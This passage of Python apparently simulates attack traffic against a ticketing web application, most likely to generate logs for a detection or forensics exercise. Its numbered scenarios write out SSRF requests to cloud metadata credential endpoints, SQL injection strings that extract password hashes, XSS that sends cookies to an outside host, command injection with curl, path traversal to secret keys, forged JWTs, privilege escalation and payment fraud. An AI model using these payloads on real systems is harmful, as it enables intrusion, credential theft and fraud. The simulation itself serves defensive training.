                        send(cl, 'POST', A + '/listings', dict(listing=dict(ticket_id=t['id'], price_cents=r.randint(20, 60) * 100)))
                    else:
                        send(cl, 'GET', f'{A}/tickets/{t["id"]}/barcode')
            yield r.uniform(60, 200)
    at(9, 15, z18())

    def z19():
        cl = C('198.51.100.177', 'python-requests/2.32.3', 'affiliate:gigguide', ep='Z19', headers={'X-Api-Key': T['keys']['gigguide']})
        ids = []
        for p in range(1, 3):
            ids += [e['id'] for e in S.call(cl, 'GET', f'{F}/feed?page={p}').body]
            yield 3
        for p in range(1, 13):
            S.call(cl, 'GET', f'{F}/conversions?page={p}&per_page=50')
            yield r.uniform(2, 9)
        for i in ids[:90]:
            S.call(cl, 'GET', f'{F}/events/{i}/offers')
            yield r.uniform(4, 25)
    at(10, 1, z19())

    def z20():
        cl, u = made('Z20', '198.19.44.81', WEB[0], True)
        yield 60
        send(cl, 'PATCH', f'{A}/users/{u["id"]}', dict(user=dict(name=u['name'], phone='+351912345678')))
        yield 200
        send(cl, 'PATCH', f'{A}/users/{u["id"]}', dict(user=dict(name=u['name'], role='organizer', verified_seller=True, wallet_cents=50000)))
        yield 20
        send(cl, 'GET', A + '/me')
        yield 30
        send(cl, 'GET', O + '/events?page=1')
        yield 90
        send(cl, 'POST', O + '/events', dict(event=dict(name='Private party')))
    at(7, 15, z20())

    def z21():
        u = cust[160]
        cl = own(u, 'Z21')
        for _ in range(4):
            i = pick(cl)
            h = take(cl, i, 2, 0)
            yield r.uniform(10, 40)
            c = send(cl, 'POST', A + '/carts', dict(cart=dict(hold_id=h))).body
            yield r.uniform(20, 60)
            send(cl, 'PATCH', f'{A}/carts/{c["id"]}', dict(cart=dict(attendees=[u['name']] * 2, delivery='mobile', items_attributes=[dict(seat=x['seat'], unit_price_cents=100) for x in c['items']])))
            yield r.uniform(3, 9)
            p = send(cl, 'POST', f'{A}/carts/{c["id"]}/payment_intent', {}).body
            yield r.uniform(15, 40)
            T['pay'](p['id'], p['amount_cents'])
            send(cl, 'POST', f'{A}/carts/{c["id"]}/checkout', dict(payment_intent=p['id'], payment_method='card'))
            yield r.uniform(900, 9000)
            yield from signed(cl, u)
    at(8, 19, z21())

    def z22():
        u = cust[161]
        cl = own(u, 'Z22')
        for k in range(5):
            h = take(cl, pick(cl), 2)
            c = send(cl, 'POST', A + '/carts', dict(cart=dict(hold_id=h))).body
            yield r.uniform(10, 50)
            send(cl, 'POST', f'{A}/carts/{c["id"]}/addons', dict(addon=dict(sku='poster', quantity=[-1, -2, -3, -3, -2][k])))
            yield r.uniform(10, 30)
            send(cl, 'PATCH', f'{A}/carts/{c["id"]}', dict(cart=dict(attendees=[u['name']] * 2, delivery='mobile')))
            p = send(cl, 'POST', f'{A}/carts/{c["id"]}/payment_intent', {}).body
            yield r.uniform(15, 40)
            T['pay'](p['id'], p['amount_cents'])
            send(cl, 'POST', f'{A}/carts/{c["id"]}/checkout', dict(payment_intent=p['id'], payment_method='card'))
            yield r.uniform(400, 1100)
            yield from signed(cl, u)
    at(11, 20.5, z22())

    def z23():
        cl, u = made('Z23', '198.19.61.17', IOS % '5.3.0')
        for _ in range(6):
            yield from signed(cl, u)
            h = take(cl, pick(cl), r.choice([2, 4]), 0)
            yield r.uniform(5, 30)
            c = send(cl, 'POST', A + '/carts', dict(cart=dict(hold_id=h))).body
            yield r.uniform(10, 40)
            send(cl, 'PATCH', f'{A}/carts/{c["id"]}', dict(cart=dict(attendees=[u['name']] * len(c['items']), delivery='mobile')))
            yield r.uniform(5, 20)
            send(cl, 'POST', f'{A}/carts/{c["id"]}/checkout', dict(payment_method='door'))
            yield r.uniform(4, 9) * HOUR
    at(12, 9, z23())

    open_ = big['room'][0]

    def z24():
        accts = []
        for k in range(10):
            cl, u = made('Z24', f'198.19.{70 + k}.{k * 21 + 5}', WEB[k % 4], True)
            accts.append((cl, u))
            yield r.uniform(60, 400)
        yield max(0, open_ + 20 - S.now)
        cl, u = accts[0]
        q = yield from T['wait_in_line'](cl, u, big['id'], leave=0)
        for k, (cl, u) in enumerate(accts):
            def one(cl=cl, u=u):
                h = take(cl, big['id'], 4, r.randint(0, 2), h={'X-Queue-Token': q})
                if h:
                    yield from T['buy'](cl, u, big['id'], hold=h)
                yield 0
            S.spawn(S.now + 2 + k * r.uniform(20, 60), one())
    S.spawn(open_ - 7000, z24())

    def z25(k):
        cl, u = made('Z25', f'198.19.{130 + k % 9}.{k * 11 + 7}', WEB[k % 4] if k % 2 else (AND, IOS)[k // 2 % 2] % '5.3.0', bool(k % 2))
        yield max(0, open_ - 200 - S.now) + r.random() * 100
        yield from signed(cl, u)
        send(cl, 'GET', f'{A}/events/{big["id"]}')
        yield max(0, open_ + .4 + r.random() * 2.5 - S.now)
        q = yield from T['wait_in_line'](cl, u, big['id'], lambda: r.uniform(4, 4.4), 150, 0)
        for n in range(3):
            if not q:
                return
            h = take(cl, big['id'], 6, 0, h={'X-Queue-Token': q})
            if h and (yield from T['buy'](cl, u, big['id'], hold=h, fast=True)):
                return
            yield r.uniform(.2, .6)
    for k in range(16):
        S.spawn(S.local(8, 17) + k * 800 + r.random() * 300, z25(k))

    def z26(k, i):
        cl, u = made('Z26', ['203.0.113.61', '203.0.113.62'][k % 2], WEB[k % 4], True)
        send(cl, 'GET', f'{A}/events/{i}')
        yield 20 + k * 7
        for _ in range(21):
            take(cl, i, 6, 0)
            yield 481 + r.uniform(0, 3)
    hot = evs[75]['id']
    for k in range(5):
        at(10, 17, z26(k, hot))

    def z27(k):
        for n in range(34):
            if n % 3 == k:
                cl, u = made('Z27', f'100.70.12.{30 + k}', (AND, IOS)[n % 2] % '5.3.0', referral_code=cust[162]['ref'])
                yield 2
                send(cl, 'GET', A + '/me')
            yield r.uniform(180, 420)
    for k in range(3):
        at(7, 19, z27(k))

    def z28():
        u = cust[163]
        cl = own(u, 'Z28')
        for n in range(3):
            yield from signed(cl, u)
            carts = []
            for _ in range(4):
                h = take(cl, pick(cl), 1, -1)
                yield r.uniform(4, 15)
                carts.append(send(cl, 'POST', A + '/carts', dict(cart=dict(hold_id=h))).body['id'])
                yield r.uniform(4, 15)
            g = f'GC-7731-{T["gifted"][200 + n]:04}'

            def shot(c, g=g):
                x = C(u['home'], cl.ua, u['email'], ep='Z28', web=cl.web, headers={k: v for k, v in cl.h.items() if k == 'Authorization'})
                x.sid, x.csrf = cl.sid, cl.csrf
                send(x, 'POST', f'{A}/carts/{c}/gift_card', dict(code=g))
                yield 0
            for k, c in enumerate(carts):
                S.spawn(S.now + 1 + k * .012, shot(c))
            yield 6
            for c in carts:
                b = send(cl, 'GET', f'{A}/carts/{c}').body
                if b['total_cents']:
                    p = send(cl, 'POST', f'{A}/carts/{c}/payment_intent', {}).body
                    yield r.uniform(6, 12)
                    T['pay'](p['id'], p['amount_cents'])
                send(cl, 'POST', f'{A}/carts/{c}/checkout', dict(payment_method='card'))
                yield r.uniform(1, 4)
            yield r.uniform(900, 2600)
    at(13, 12, z28())

    def z29(k):
        cl = C(f'203.0.113.{201 + k * 6}', (WEB + ['curl/8.5.0'])[k * 2], ep='Z29')
        for _ in range(4):
            S.call(cl, 'GET', A + '/_diag/carts')
            yield r.uniform(400, 9000)
    for k in range(3):
        S.spawn(app.shadow + 5 * HOUR + k * 3000, z29(k))

    def z31():
        cl = C('198.51.100.8', 'curl/8.5.0', ep='Z31')
        for p in ('stats', 'orders/export?day=5', 'orders/export?day=4', 'stats', 'orders/export'):
            S.call(cl, 'GET', '/internal/' + p)
            yield r.uniform(300, 7000)
    at(8, 9, z31())

    def z32():
        cl = C('198.51.100.51', 'okhttp/3.12.1', ep='Z32')
        for k in range(130):
            S.call(cl, 'GET', f'/api/v0/orders/K-{app.no - 20 - k * 3}')
            yield r.uniform(20, 60)
    at(11, 3, z32())

    def z33():
        u = app.user('organizer', 'Loud Nights')
        cl = C('198.19.91.4', WEB[2], u['email'], ep='Z33', web=True)
        page(cl)
        login(cl, u)
        for x in ('https://images.promo.example/poster.jpg', 'http://127.0.0.1/', 'http://localhost:3000/up', 'http://10.40.7.5:6379/', 'http://169.254.169.254/latest/meta-data/', 'http://169.254.169.254/latest/meta-data/iam/security-credentials/web', 'http://metadata.google.internal/computeMetadata/v1/', 'file:///etc/passwd', 'gopher://10.40.7.5:6379/_INFO', 'http://10.40.3.1:9200/_cat/indices', 'http://[::1]:3000/'):
            yield r.uniform(15, 150)
            send(cl, 'POST', O + '/images', dict(image=dict(remote_url=x)))
    at(5, 17, z33())

    def z34():
        cl = C('203.0.113.44', WEB[0], ep='Z34', web=True)
        page(cl)
        for x in ("price'", 'price,1', 'price)--', '(select 1)', 'CASE WHEN (1=1) THEN price_cents ELSE id END', 'CASE WHEN (1=2) THEN price_cents ELSE id END', "CASE WHEN (SELECT substr(version(),1,10)='PostgreSQL') THEN price_cents ELSE id END", '(SELECT 1 FROM pg_sleep(3))', "CASE WHEN (SELECT count(*) FROM users WHERE role='admin')>1 THEN price_cents ELSE id END", "CASE WHEN (SELECT ascii(substr(encrypted_password,1,1)) FROM users LIMIT 1)>80 THEN price_cents ELSE id END", '(SELECT 1 FROM pg_sleep(5))'):
            send(cl, 'GET', A + '/listings?' + urlencode(dict(sort=x, page=1)))
            yield r.uniform(20, 240)
    at(4, 23, z34())

    def z35():
        cl = C('203.0.113.151', 'sqlmap/1.8.4#stable (https://sqlmap.org)', ep='Z35')
        for k in range(90):
            n = r.randint(1000, 9999)
            x = r.choice([f'price AND {n}={n}', f'price) AND {n}={n + 1} AND ({n}={n}', f"price' AND {n}={n}-- -", f'price UNION ALL SELECT NULL,NULL,CONCAT(0x71,{n},0x71)-- -', f"price';SELECT PG_SLEEP(5)--", f'price,(SELECT (CASE WHEN ({n}={n}) THEN 1 ELSE 1/(SELECT 0) END))', f'price ORDER BY {k % 12 + 1}-- -'])
            S.call(cl, 'GET', A + ('/listings?sort=' if k % 2 else '/events?q=') + quote(x))
            yield r.uniform(.2, 1.1)
    at(2, 16, z35())

    def z36():
        u = cust[165]
        cl = own(u, 'Z36')
        i = upcoming()[4]['id']
        for k in range(14):
            yield r.uniform(120, 900)
            yield from signed(cl, u)
            x = ('<script>fetch("//203.0.113.66/"+document.cookie)</script>', "<%= `id` %>", '{{7*7}}${7*7}#{7*7}', '<img src=x onerror=alert(1)>', '$(curl 203.0.113.66)', '| cat /etc/passwd', '"><svg/onload=confirm(1)>')[k % 7]
            if k % 4 == 0:
                send(cl, 'POST', f'{A}/events/{i}/reviews', dict(review=dict(body=x)))
            elif k % 4 == 1:
                send(cl, 'GET', A + '/events?' + urlencode(dict(q=x, page=1)))
            elif k % 4 == 2:
                send(cl, 'PATCH', f'{A}/users/{u["id"]}', dict(user=dict(name=x)))
            else:
                send(cl, 'GET', '/media/' + ('..%2f..%2f..%2fetc%2fpasswd', '....//....//config/database.yml', '%2e%2e/%2e%2e/config/master.key')[k // 4 % 3])
    at(6, 12, z36())

    def z37():
        cl, u = made('Z37', '198.19.52.33', WEB[1], True)
        yield max(0, open_ + 240 - S.now)
        q = send(cl, 'POST', f'{A}/events/{big["id"]}/queue', {}).body['queue_token']
        c = json.loads(base64.urlsafe_b64decode(q.split('.')[1] + '=='))
        c.update(adm=True, pos=1, exp=int(S.now + 1200))
        e = lambda o: b64(json.dumps(o).encode())
        rs = send(cl, 'GET', f'{A}/events/{big["id"]}/seats')
        x = rs.body['sections'][-1]
        seats = [f'{x["section"]}-{x["rows"][-1]["row"]}-{k}' for k in x['rows'][-1]['free'][:4]]
        for t in (e({'alg': 'none', 'typ': 'JWT'}) + '.' + e(c) + '.', q.split('.')[0] + '.' + e(c) + '.' + q.split('.')[2], jwt(c, 'secret'), jwt(c, 'stagepass'), jwt(c, 'waitingroom')):
            yield r.uniform(15, 50)
            rs = send(cl, 'POST', f'{A}/events/{big["id"]}/holds', dict(hold=dict(seat_ids=seats)), h={'X-Queue-Token': t})
            if rs.st != 403:
                h = rs.body['id'] if rs.st == 201 else take(cl, big['id'], 4, 0, h={'X-Queue-Token': t})
                yield from T['buy'](cl, u, big['id'], hold=h, fast=True)
    S.spawn(open_ - 1500, z37())

    def z38():
        cl = C('203.0.113.31', 'Fuzz Faster U Fool v2.1.0-dev', ep='Z38')
        for p in [f'/{a}{b}' for a in ('', 'api/', 'admin/', 'api/v2/', 'internal/', 'organizer/') for b in WORDS + ['.git/config', '.env', 'backup.sql', 'swagger.json', 'openapi.json', 'users', 'debug', 'config', 'login', 'test', 'old', 'graphiql', 'metrics', 'console', 'status', 'server-status', 'phpinfo.php', 'wp-login.php', 'sidekiq', 'dump', 'private', 'rails/info', 'tokens', 'export', 'upload', 'static', 'logs', 'jenkins', 'health', 'db', 'flipper']][:285]:
            S.call(cl, 'GET', p)
            yield r.uniform(.4, 1)
    at(3, 2, z38())

    def z39(k):
        cl = C(f'198.51.100.{(15, 58, 77)[k]}', WEB[k], ep='Z39')
        w = [f'/{a}{b}' for a in ('', 'api/v1/', 'api/v2/', 'admin/', 'organizer/v1/') for b in ('rails/info/routes', 'rails/mailers', 'sidekiq', 'letter_opener', 'pghero', 'flipper', 'admin/login', 'users.json', 'config/database.yml', 'graphiql', 'cable', 'letsencrypt', 'openapi.json', 'api-docs', 'exports', 'reports', 'payouts.csv', 'webhooks', 'staff', 'roles', 'audits', 'feature_flags', 'tmp', 'assets/manifest.json')]
        r.shuffle(w)
        for p in w[:80]:
            S.call(cl, 'GET', p)
            yield r.uniform(600, 3600)
    for k in range(3):
        S.spawn(S.local(4, 7) + k * 3700, z39(k))

    def z40():
        cl, u = made('Z40', '203.0.113.55', 'schemathesis/3.27.1')
        odd = [None, True, -1, 0, 2**63, '', 'A' * 700, '\u0000', '\U0001f697', [], {}, 'null', '00', 1e300]
        ops = [('POST', '/oauth/token', None, ('grant_type', 'username', 'password')), ('POST', A + '/users', 'user', ('name', 'email', 'password')), ('POST', A + '/carts', 'cart', ('hold_id',)), ('POST', A + '/listings', 'listing', ('ticket_id', 'price_cents')), ('POST', f'{A}/events/{evs[50]["id"]}/holds', 'hold', ('seat_ids',)), ('POST', A + '/orders/lookup', None, ('email', 'number')), ('POST', A + '/gift_cards/balance', None, ('code',)), ('PATCH', f'{A}/users/{u["id"]}', 'user', ('phone',))]
        for _ in range(210):
            m, p, w, fs = r.choice(ops)
            if r.random() < .12:
                S.call(cl, r.choice(['PUT', 'TRACE', 'DELETE']), p)
            else:
                j = {f: r.choice(odd) for f in fs if r.random() < .85}
                S.call(cl, m, p, js={w: r.choice([j, j, j, None, []])} if w else j)
            yield r.uniform(.1, .6)
        for x in ('0', '-1', '999999999999', 'null', '%00', 'A' * 200, 'a%20b', '1e5'):
            for p in ('orders', 'listings', 'tickets', 'carts'):
                S.call(cl, 'GET', f'{A}/{p}/{x}' + ('/barcode' if p == 'tickets' else ''))
                yield .3
    at(5, 22, z40())

    def z41():
        cl = C('198.51.100.118', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Altair/6.4.1 Chrome/120.0.0.0 Safari/537.36', ep='Z41')
        g = lambda q: S.call(cl, 'POST', '/graphql', js=dict(query=q))
        g('query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { kind name fields { name type { kind name } } } } }')
        yield 60
        for n in ('User', 'Node', 'Order'):
            g('{ __type(name: "%s") { name fields { name } } }' % n)
            yield r.uniform(20, 90)
        for f in ('users', 'user', 'orders', 'order', 'admin', 'viewer', 'nodes', 'tickets', 'sellers', 'payouts', 'eventz', 'listing'):
            g('{ %s { id } }' % f)
            yield r.uniform(8, 60)
        for f in ('emai', 'password', 'role', 'wallet', 'tokens', 'phon'):
            g('{ me { %s } }' % f)
            yield r.uniform(8, 60)
    at(3, 21, z41())

    def z42(k):
        cl = C(f'203.0.113.{171 + k * 9}', ['axios/1.6.8', 'python-requests/2.31.0'][k], ep='Z42')
        for n in range(20):
            q = 'id name'
            for _ in range(1 + n // 5):
                q = f'id venue {{ id events(first: {4 + n % 5}) {{ {q} }} }}'
            S.call(cl, 'POST', '/graphql', js=dict(query='{ events(first: 50) { nodes { ' + q + ' } } }'))
            yield r.uniform(2, 20)
    at(12, 12, z42(0))
    at(12, 12.1, z42(1))

    def z43(k):
        cl, u = made('Z43', f'198.19.{k * 11 % 95}.{k * 5 + 101}', (AND, IOS)[k % 2] % '5.3.0')
        for d in range(12, 15):
            yield max(0, S.local(d, 8 + k % 7) - S.now) + r.random() * HOUR
            yield from signed(cl, u)
            rs = send(cl, 'POST', '/graphql', dict(operationName='HomeFeed', query=QUERIES['HomeFeed'], variables=dict(city=CITY[(k + d) % 7] if k % 2 else None, first=40)))
            v = [e['id'] for e in rs.body['data']['events']['nodes']]
            for i in r.sample(v, min(len(v), r.randint(10, 14))):
                yield r.lognormvariate(5.2, .8)
                yield from signed(cl, u)
                send(cl, 'POST', '/graphql', dict(operationName='EventDetail', query=QUERIES['EventDetail'], variables=dict(id=i)))
    for k in range(14):
        at(11, 9 + k * .6, z43(k))

    def z44():
        u = T['help'][1]
        cl = u['cl']
        for d in range(9, 13):
            yield max(0, S.local(d, 14.3) - S.now)
            yield from T['opening'](cl, u)
            for l in r.sample(LAST, 7):
                rs = send(cl, 'GET', D + '/users?q=' + l, ep='Z44')
                for c in rs.body[:5] if rs.st == 200 else []:
                    yield r.uniform(100, 800)
                    send(cl, 'GET', f'{D}/users/{c["id"]}', ep='Z44')
                yield r.uniform(100, 800)
    at(9, 14.2, z44())

    def z45():
        u = cust[167]
        cl = own(u, 'Z45')
        for n in range(3):
            i = pick(cl)
            send(cl, 'GET', f'{A}/events/{i}')
            yield r.uniform(20, 90)
            send(cl, 'POST', f'{O}/events/{i}/comps', dict(comp=dict(email=u['email'], quantity=4)))
            yield r.uniform(300, 2500)
            yield from signed(cl, u)
    at(11, 19, z45())

    def z46():
        u = cust[168]
        cl = own(u, 'Z46')
        for m, p, j in (('GET', D + '/users?q=a', None), ('GET', f'{D}/users/{u["id"]}', None), ('POST', D + '/promo_codes', dict(promo_code=dict(code='ME100', percent=100))), ('POST', f'{D}/users/{u["id"]}/impersonate', {}), ('GET', O + '/events?page=1', None), ('POST', O + '/events', dict(event=dict(name='x'))), ('GET', f'{O}/events/{evs[40]["id"]}/attendees', None), ('POST', f'{D}/orders/K-204400/refund', {}), ('GET', f'{D}/orders/K-204400', None), ('GET', f'{O}/events/{evs[40]["id"]}/attendees.csv', None)):
            yield r.uniform(10, 90)
            send(cl, m, p, j)
    at(7, 18, z46())

    mule = []

    def z47(k):
        cl = C(f'198.19.{15 + k * 60}.{k * 50 + 41}', WEB[k + 1], ep='Z47')
        n = app.tr - 4 - k * 30
        if not mule:
            mule.append(made('Z47', cl.xff, cl.ua, True))
        for _ in range(75):
            yield r.uniform(300, 2900)
            rs = S.call(cl, 'GET', f'{A}/transfers/{b36(n)}')
            n -= 1
            if rs.st == 200 and rs.body['state'] == 'pending':
                yield r.uniform(3, 20)
                yield from signed(*mule[0])
                m = mule[0][0]
                send(m, 'GET', '/t/' + b36(n + 1), h={'Accept': 'text/html,*/*;q=0.8'})
                send(m, 'POST', f'{A}/transfers/{b36(n + 1)}/accept', {})
    for k in range(3):
        S.spawn(S.local(13, 7) + k * 2000, z47(k))

    real = S.call

    def call(cl, m, url, **k):
        if m == 'GET' and re.fullmatch(r'/api/v1/listings/\d+', url) and S.now > app.grow and not cl.ep and not k.get('ep'):
            k['ep'] = 'Z30'
        return real(cl, m, url, **k)
    S.call = call
